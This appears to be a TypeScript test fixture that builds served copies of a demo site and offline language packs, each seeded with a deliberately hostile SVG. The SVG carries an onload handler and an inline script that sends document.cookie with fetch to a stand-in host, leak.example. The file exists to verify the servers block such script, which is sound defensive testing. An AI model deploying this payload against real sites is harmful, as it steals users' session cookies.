/**
 * What the server tests serve: a copy of the built demo (for `npm run serve`) and packs (for the classroom
 * server: English unpacked in a folder, as updates leave it, and Thai as its zip), each with an SVG that
 * runs script, calls a dialog and reaches for another origin if anything lets it.
 */
import { cp, mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { MANIFEST_FILE, manifestBytes, packManifest } from '../../src/offline/pack-update.ts';
import { readPack } from './packs.ts';
import { demoDist, demoPacks, tmpRoot } from './paths.ts';

/** Where a script that ran would send its findings. */
export const LEAK_ORIGIN = 'https://leak.example';
/** The hostile SVG's URL on both servers. */
export const HOSTILE_SVG_URL = '/images/hostile.svg';
export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200" onload="alert('onload ran')">
<script>
document.documentElement.setAttribute('data-ran', 'yes');
alert('script ran');
fetch('${LEAK_ORIGIN}/fetch?cookie=' + encodeURIComponent(document.cookie));
</script>
<image href="${LEAK_ORIGIN}/image.png" width="10" height="10"/>
<rect x="20" y="20" width="160" height="160" fill="#c33"/>
</svg>
`;

/** Writes an unpacked pack of the locale `tag` in `folder`: `files` and their manifest, as the build makes it. */
export async function writePackFolder(folder: string, tag: string, files: ReadonlyMap<string, Uint8Array>): Promise<void> {
	await rm(folder, { recursive: true, force: true });
	const withManifest = new Map(files);
	withManifest.set(MANIFEST_FILE, manifestBytes(packManifest(withManifest, tag)));
	for (const [name, data] of withManifest) {
		await mkdir(path.dirname(path.join(folder, name)), { recursive: true });
		await writeFile(path.join(folder, name), data);
	}
}

/** The English pack's files, with the hostile SVG. */
export async function englishPackFiles(): Promise<Map<string, Uint8Array>> {
	const files = new Map<string, Uint8Array>(await readPack(path.join(demoPacks, 'en.zip')));
	files.delete(MANIFEST_FILE);
	files.set(HOSTILE_SVG_URL.slice(1), Buffer.from(HOSTILE_SVG));
	return files;
}

export async function servedCopies(name: string): Promise<{ site: string; packs: string }> {
	const folder = path.join(tmpRoot, name);
	await rm(folder, { recursive: true, force: true });
	const site = path.join(folder, 'site');
	const packs = path.join(folder, 'packs');
	await cp(demoDist, site, { recursive: true });
	await writeFile(path.join(site, HOSTILE_SVG_URL.slice(1)), HOSTILE_SVG);
	await mkdir(packs, { recursive: true });
	await writePackFolder(path.join(packs, 'en'), 'en', await englishPackFiles());
	await cp(path.join(demoPacks, 'th.zip'), path.join(packs, 'th.zip'));
	return { site, packs };
}
